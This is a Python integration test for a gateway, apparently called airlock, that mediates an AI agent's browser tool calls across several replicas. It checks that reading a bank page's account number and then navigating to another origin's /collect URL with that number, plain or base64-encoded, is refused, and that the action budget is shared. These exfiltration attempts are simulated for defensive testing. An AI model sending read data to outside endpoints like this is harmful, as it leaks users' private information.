"""A session's running state over three replicas, driven with the official MCP Python
SDK, one client per call, each at the replica named (a load balancer with no
affinity does the same): what the agent read through one replica and sends toward
another origin through the next is refused as on one replica; the action budget
counts every replica's actions.

Run by crates/airlock/tests/it/fleet_state.rs, in phases:
  fleet_state.py read   ROOT BASE KEY NAME          read the bank page through ROOT
  fleet_state.py send   ROOT OTHER_BASE KEY NAME    carry its account number to OTHER
  fleet_state.py budget ROOTS(comma) BASE KEY NAME BUDGET
Prints one line per check, then "N passed, M failed".
"""

import asyncio
import base64
import sys

from common import call, check, done, text_of

ACCOUNT = "ACCT-4417-2290-8812"


def url(root, name):
    return f"{root}/mcp/b/{name}"


async def read(root, base, key, name):
    r = await call(url(root, name), key, "2026-07-28", "browser_navigate", {"url": f"{base}/flow/bank.html"})
    check(f"read through {root}: the bank page shows the account", not r.is_error and ACCOUNT in text_of(r), text_of(r))


async def send(root, other, key, name):
    b64 = base64.b64encode(ACCOUNT.encode()).decode()
    for sent in (f"{other}/collect?d={ACCOUNT}", f"{other}/collect?d={b64}"):
        r = await call(url(root, name), key, "2026-07-28", "browser_navigate", {"url": sent})
        text = text_of(r)
        check(f"sent through {root}: {sent[len(other):]} refused as data flow",
              r.is_error and "policy_denied" in text and "data-flow" in text, text)


async def budget(roots, base, key, name, budget):
    # Every action goes to the next replica; the budget's last one and the one past it
    # land wherever the round robin puts them.
    for i in range(budget):
        root = roots[i % len(roots)]
        r = await call(url(root, name), key, "2026-07-28", "browser_navigate", {"url": f"{base}/login.html"})
        check(f"action {i + 1} of {budget} through {root}", not r.is_error, text_of(r))
    for i in range(len(roots)):
        root = roots[(budget + i) % len(roots)]
        r = await call(url(root, name), key, "2026-07-28", "browser_navigate", {"url": f"{base}/login.html"})
        text = text_of(r)
        check(f"action {budget + 1} through {root}: budget_exhausted", r.is_error and "budget_exhausted" in text, text)
    # Reading is no action: the page can still be looked at.
    r = await call(url(roots[0], name), key, "2026-07-28", "browser_snapshot", {})
    check("a snapshot after the budget is spent still answers", not r.is_error and "Sign in" in text_of(r), text_of(r))


async def main():
    phase = sys.argv[1]
    if phase == "read":
        await read(*sys.argv[2:6])
    elif phase == "send":
        await send(*sys.argv[2:6])
    elif phase == "budget":
        roots = sys.argv[2].split(",")
        await budget(roots, sys.argv[3], sys.argv[4], sys.argv[5], int(sys.argv[6]))
    else:
        raise SystemExit(f"unknown phase {phase}")
    done()


asyncio.run(main())
